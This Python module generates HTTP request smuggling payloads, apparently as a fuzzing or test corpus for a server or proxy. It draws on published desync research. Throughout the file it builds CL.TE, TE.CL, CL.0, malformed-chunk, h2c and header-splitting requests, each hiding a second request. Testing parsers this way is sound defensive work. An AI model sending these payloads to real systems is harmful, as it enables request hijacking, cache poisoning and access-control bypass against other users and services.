"""Requests that two servers may divide differently, with another one inside of what may be taken for content.

After "HTTP Desync Attacks" (Kettle, 2019), "HTTP Request Smuggling in 2020" (Klein) and RFC 9112, section
11.2. In each the hidden request is content, or stands where only an error can be.
"""

from collections.abc import Iterator

CODINGS = {
    "plain": b"Transfer-Encoding: chunked",
    "in capitals": b"TRANSFER-ENCODING: CHUNKED",
    "another coding": b"Transfer-Encoding: xchunked",
    "space before the colon": b"Transfer-Encoding : chunked",
    "tab before the colon": b"Transfer-Encoding\t: chunked",
    "tab behind the colon": b"Transfer-Encoding:\tchunked",
    "no space": b"Transfer-Encoding:chunked",
    "vertical tab": b"Transfer-Encoding:\x0bchunked",
    "form feed": b"Transfer-Encoding: chunked\x0c",
    "NUL behind": b"Transfer-Encoding: chunked\0",
    "NUL in the name": b"Transfer-\0Encoding: chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "a parameter": b"Transfer-Encoding: chunked;q=1",
    "a comma": b"Transfer-Encoding: ,chunked",
    "with identity": b"Transfer-Encoding: identity, chunked",
    "chunked, then identity": b"Transfer-Encoding: chunked, identity",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "two, the second unknown": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "two, the first unknown": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "two, the second empty": b"Transfer-Encoding: chunked\r\nTransfer-Encoding:",
    "empty": b"Transfer-Encoding:",
    "folded value": b"Transfer-Encoding:\r\n chunked",
    "folded into another": b"X: y\r\n Transfer-Encoding: chunked",
    "indented": b" Transfer-Encoding: chunked",
    "split name": b"Transfer-\r\nEncoding: chunked",
    "colon on the next line": b"Transfer-Encoding\r\n: chunked",
    "behind a bare LF": b"X: y\nTransfer-Encoding: chunked",
    "behind a bare CR": b"X: y\rTransfer-Encoding: chunked",
    "behind LF CR": b"X: y\n\rTransfer-Encoding: chunked",
    "ended by a bare CR": b"Transfer-Encoding: chunked\rX: y",
    "underscore": b"Transfer_Encoding: chunked",
    "beyond ASCII": "Transfer-Encoding: chun\u212aed".encode(),
    "high octet": b"\xffTransfer-Encoding: chunked",
    "no colon": b"Transfer-Encoding chunked",
}
LENGTHS = {
    "none first": b"Content-Length: 0\r\nContent-Length: %d",
    "none last": b"Content-Length: %d\r\nContent-Length: 0",
    "as a list": b"Content-Length: 0, %d",
    "plus": b"Content-Length: +%d",
    "hexadecimal": b"Content-Length: 0x%x",
    "space within": b"Content-Length: 0 %d",
    "minus": b"Content-Length: -%d",
    "underscores": b"Content-Length: 0_%d",
    "point": b"Content-Length: %d.0",
    "vertical tab": b"Content-Length: \x0b%d",
    "NUL": b"Content-Length: %d\0",
    "space before the colon": b"Content-Length : %d",
    "folded": b"Content-Length:\r\n %d",
    "folded into another": b"Content-Length: %d\r\nX: y\r\n Content-Length: 0",
    "behind a bare CR": b"X: y\rContent-Length: %d\r\nContent-Length: 0",
    "too large for 64 bits": b"Content-Length: 1844674407370955%d",
    "once and true": b"Content-Length: %d",
    "twice and true": b"Content-Length: %d\r\nContent-Length: %d",
    "leading zeros": b"Content-Length: 000%d",
}
SIZES = {
    "hexadecimal sign": b"0x%x",
    "plus": b"+%x",
    "minus": b"-%x",
    "underscore": b"0_%x",
    "space before": b" %x",
    "junk behind": b"%xg",
    "space behind": b"%x ",
    "tab behind": b"%x\t",
    "NUL behind": b"%x\0",
    "bare CR behind": b"%x\r",
    "semicolon": b"%x;",
    "LF in an extension": b"%x;a\nb",
    "quoted": b'%x;a="\r\n"',
    "64 bits too long": b"1%016x",
    "many zeros": b"0" * 500 + b"%x",
    "nothing": b"",
    "point": b"%x.0",
}
METHODS = (b"GET", b"HEAD", b"POST", b"OPTIONS", b"PUT", b"BREW")
PATHS = (
    b"/video.mp4",
    b"/chunked_video.mp4",
    b"/videos/sample.mp4",
    b"/healthz",
    b"/nothing",
    b"/-/error",
    b"/metrics",
)
UPGRADE = (
    b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def post(
    fields: bytes, body: bytes, method: bytes = b"POST", path: bytes = b"/healthz", version: bytes = b"1.1"
) -> bytes:
    return b"%b %b HTTP/%b\r\nHost: a\r\n%b\r\n\r\n%b" % (method, path, version, fields, body)


def chunk(content: bytes, size: bytes = b"%x") -> bytes:
    return (size % len(content) if b"%" in size else size) + b"\r\n" + content + b"\r\n0\r\n\r\n"


def smuggles(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield names and what is sent."""
    yield from _two_framings(hidden)
    yield from _lengths(hidden)
    yield from _chunks(hidden)
    yield from _other_protocols(hidden)
    yield from _request_lines(hidden)


def _two_framings(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    ended = b"0\r\n\r\n" + hidden
    for name, coding in CODINGS.items():
        for method in (b"POST", b"GET"):
            said = f"{method.decode()}, coding: {name}"
            length = b"Content-Length: %d" % len(ended)
            yield f"CL.TE, {said}", post(length + b"\r\n" + coding, ended, method)
            yield f"TE.CL, {said}", post(coding + b"\r\n" + length, ended, method)
            yield f"TE alone, {said}", post(coding, chunk(hidden), method)
    short = b"Content-Length: 4\r\nTransfer-Encoding: chunked"
    yield "TE.CL, short", post(short, chunk(hidden))
    yield (
        "TE in HTTP/1.0",
        post(b"Connection: keep-alive\r\nTransfer-Encoding: chunked", ended, version=b"1.0"),
    )
    yield "TE and CL in HTTP/1.0", post(b"Connection: keep-alive\r\n" + short, chunk(hidden), version=b"1.0")
    for option in (b"Transfer-Encoding", b"Content-Length"):
        fields = b"Connection: keep-alive, %b\r\nContent-Length: %d" % (option, len(hidden))
        yield f"Connection: {option.decode()}", post(fields, hidden)


def _lengths(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    for name, spelling in LENGTHS.items():
        fields = spelling % ((len(hidden),) * spelling.count(b"%"))
        for method in (b"POST", b"GET"):
            yield f"CL: {name}, {method.decode()}", post(fields, hidden, method)
    length = b"Content-Length: %d" % len(hidden)
    for method in METHODS:
        for path in PATHS:
            yield f"CL.0: {method.decode()} {path.decode()}", post(length, hidden, method, path)
    yield "CL.0: Expect", post(length + b"\r\nExpect: 100-continue", hidden)
    yield "CL.0: Upgrade", post(length + b"\r\nConnection: Upgrade\r\nUpgrade: websocket", hidden)


def _chunks(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    coding = b"Transfer-Encoding: chunked"
    for name, size in SIZES.items():
        yield f"chunk size: {name}", post(coding, chunk(hidden, size))
    for name, body in {
        "no end of a chunk": b"3\r\nabc" + chunk(hidden),
        "a chunk too long": b"3\r\nabcd\r\n" + chunk(hidden),
        "no empty line": b"0\r\n" + hidden,
    }.items():
        yield name, post(coding, body)


def _other_protocols(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    start = b"GET /healthz HTTP/1.1\r\nHost: a\r\n"
    yield "h2c, preface", start + UPGRADE + b"\r\n" + PREFACE + hidden
    yield "h2c, prior knowledge", PREFACE + hidden
    yield "HTTP/0.9", b"GET /healthz\r\n" + hidden
    yield "HTTP/0.9, bare LF", b"GET /healthz\n" + hidden
    yield "HTTP/2.0", start.replace(b"1.1", b"2.0") + b"\r\n" + hidden
    yield "CONNECT", b"CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n" + hidden


def _request_lines(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    line = hidden.split(b"\r\n")[0]
    for name, between in {
        "bare CR": b"\r", "NUL": b"\0", "LF, encoded": b"%0a", "CRLF, encoded": b"%0d%0a", "tab": b"\t",
        "encoded twice": b"%250d%250a", "beyond ASCII": "\u560a\u560d".encode(), "vertical tab": b"\x0b",
    }.items():  # fmt: skip
        target = b"/healthz%b%b" % (between, line.replace(b" ", b"%20"))
        yield f"target split by {name}", b"GET %b HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" % target
        raw = b"GET /healthz HTTP/1.1%b%b\r\nHost: a\r\nConnection: close\r\n\r\n" % (between, line)
        yield f"line split by {name}", raw
        field = b"X: y%b%b%b%b" % (between, between, line, between)
        yield f"field split by {name}", post(field + b"\r\nConnection: close", b"", b"GET")
        host = b"GET /healthz HTTP/1.1\r\nHost: a%b%b\r\nConnection: close\r\n\r\n" % (between, line)
        yield f"Host split by {name}", host
